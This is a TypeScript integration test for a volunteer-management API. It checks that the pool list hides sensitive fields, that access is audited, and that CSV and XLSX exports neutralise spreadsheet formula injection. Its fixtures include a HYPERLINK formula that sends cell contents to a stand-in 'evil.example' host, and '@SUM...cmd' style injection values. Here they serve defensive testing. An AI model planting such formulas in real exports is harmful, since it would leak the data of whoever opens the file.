import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../tests/harness.js';
import { asBrowser, login, makeCatalog, makeNetwork, makeUser, type TestNetwork } from '../../../../tests/factories.js';
import { withTenant } from '../../db/tenancy.js';
import { volunteers } from './volunteers.table.js';

let t: TestApp;
let network: TestNetwork;
let coordinator: string;
let admin: string;
let amiraId: string;

const IBAN = 'DE89370400440532013000';
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")';

/** Exactly what the pool list and the pickers show (VolunteerSummary). */
const SUMMARY_KEYS = [
  'deployable', 'districts', 'email', 'firstName', 'freeCapacity', 'homeDistrict', 'id', 'languages', 'lastName',
  'maxActiveAgreements', 'maxHoursPerMonth', 'phone', 'specializations', 'status', 'wellbeing',
];

beforeAll(async () => {
  t = await createTestApp();
  network = await makeNetwork(t.database, 'Integrationsnetz Hannover');
  await makeCatalog(t.database, network);
  admin = await login(t.app, network.adminEmail);
  coordinator = await login(t.app, (await makeUser(t.database, network, 'coordinator')).email);
  const create = async (payload: object) => {
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/volunteers', headers: asBrowser(coordinator), payload });
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id as string;
  };
  amiraId = await create({
    firstName: 'Amira',
    lastName: 'Haddad',
    email: 'amira.haddad@example.org',
    phone: '+49 511 123456',
    street: 'Limmerstraße 1',
    postalCode: '30451',
    city: 'Hannover',
    birthYear: 1988,
    gender: 'female',
    origins: ['SY'],
    originConsent: { givenOn: '2026-03-01', textVersion: 'herkunft-v1' },
    languages: [{ code: 'ar', level: 'native' }],
    homeDistrict: 'linden-nord',
    districts: ['mitte'],
    specializations: ['elternlotse'],
    topics: ['schule'],
    status: 'active',
    qualifications: [{ type: 'basic', completedOn: '2025-06-30' }],
    notes: 'Vertraulich: schwierige Familiensituation.',
  });
  // The account as payouts use it (entered by the volunteer herself; how it is entered is not this test's matter).
  await withTenant(t.database.db, network.networkId, (tx) =>
    tx.update(volunteers).set({ iban: IBAN, accountHolder: 'Amira Haddad' }).where(and(eq(volunteers.networkId, network.networkId), eq(volunteers.id, amiraId))),
  );
  await create({ firstName: HYPERLINK, lastName: '@SUM(1+1)*cmd', city: '-2+3+cmd', phone: '+49 30 987', birthYear: 1990, maxHoursPerMonth: 12 });
});
afterAll(() => t.close());

const get = (url: string, cookie = coordinator) => t.app.inject({ method: 'GET', url, headers: { cookie } });

async function auditEvents(action: string) {
  const res = await get(`/api/v1/audit-events?action=${action}&entity=volunteer&limit=100`, admin);
  expect(res.statusCode, res.body).toBe(200);
  return res.json().items as { action: string; entityId: string | null; fields: string[] }[];
}

describe('the pool list', () => {
  it('hands out a summary only, with and without a search: no IBAN, notes, birth year, origins, address or gender', async () => {
    for (const url of ['/api/v1/volunteers?limit=100', '/api/v1/volunteers?q=Haddad']) {
      const res = await get(url);
      expect(res.statusCode, res.body).toBe(200);
      const amira = res.json().items.find((v: { id: string }) => v.id === amiraId);
      expect(Object.keys(amira).sort(), url).toEqual(SUMMARY_KEYS);
      expect(amira).toMatchObject({ lastName: 'Haddad', email: 'amira.haddad@example.org', status: 'active', deployable: true, districts: ['mitte'], specializations: ['elternlotse'] });
      for (const secret of [IBAN, 'Vertraulich', '1988', 'Limmerstraße', '30451', '"SY"', 'female']) expect(res.body, `${url}: ${secret}`).not.toContain(secret);
    }
  });

  it('gives the full record, IBAN included, only from the single read, and audits that read', async () => {
    const res = await get(`/api/v1/volunteers/${amiraId}`);
    expect(res.json()).toMatchObject({ birthYear: 1988, notes: 'Vertraulich: schwierige Familiensituation.', bankAccount: { iban: IBAN }, origins: ['SY'] });
    expect((await auditEvents('read')).filter((e) => e.entityId === amiraId).length).toBeGreaterThanOrEqual(1);
  });

  it('audits each list read once, naming the filters and the count, never the search term', async () => {
    const before = (await auditEvents('list')).length;
    const res = await get('/api/v1/volunteers?q=Haddad&status=active&limit=10');
    expect(res.json().items).toHaveLength(1);
    const events = await auditEvents('list');
    expect(events.length).toBe(before + 1);
    expect(events[0]).toMatchObject({ entityId: null, fields: ['filter:q', 'filter:status', 'count:1'] });
    expect(JSON.stringify(events)).not.toContain('Haddad');
    await get('/api/v1/volunteers');
    expect((await auditEvents('list'))[0]!.fields).toEqual(['count:2']);
  });

  it('audits each export once with its format, the filters by name and the count', async () => {
    const before = (await auditEvents('export')).length;
    expect((await get('/api/v1/volunteers/export?format=csv&status=active')).statusCode).toBe(200);
    expect((await get('/api/v1/volunteers/export?format=xlsx')).statusCode).toBe(200);
    const events = await auditEvents('export');
    expect(events.length).toBe(before + 2);
    expect(events[0]!.fields).toEqual(['format:xlsx', 'count:2']);
    expect(events[1]!.fields).toEqual(['format:csv', 'filter:status', 'count:1']);
  });
});

describe('the pool export', () => {
  it('writes text that a spreadsheet would run as a formula into the CSV as text, numbers as numbers', async () => {
    const res = await get('/api/v1/volunteers/export?format=csv');
    const rows = parse(res.body.replace(/^\ufeff/, ''), { delimiter: ';' }) as string[][];
    const header = rows[0]!;
    const hostile = rows.find((r) => r[header.indexOf('Vorname')]!.includes('HYPERLINK'))!;
    const cell = (name: string) => hostile[header.indexOf(name)];
    expect(cell('Vorname')).toBe(`'${HYPERLINK}`);
    expect(cell('Nachname')).toBe("'@SUM(1+1)*cmd");
    expect(cell('Ort')).toBe("'-2+3+cmd");
    expect(cell('Telefon')).toBe("'+49 30 987");
    expect(cell('Geburtsjahr')).toBe('1990');
    expect(cell('Max. Stunden/Monat')).toBe('12');
    // Nothing in the file starts with a formula character any more.
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it('writes such text into the XLSX as a text cell that reads back unchanged, never as a formula', async () => {
    const res = await get('/api/v1/volunteers/export?format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    let found = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, String(cell.address)).toBeUndefined();
        if (cell.value === HYPERLINK) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          found++;
        }
      }),
    );
    expect(found).toBe(1);
    expect(sheet.getRow(1).values).toContain('Nachname');
  });
});
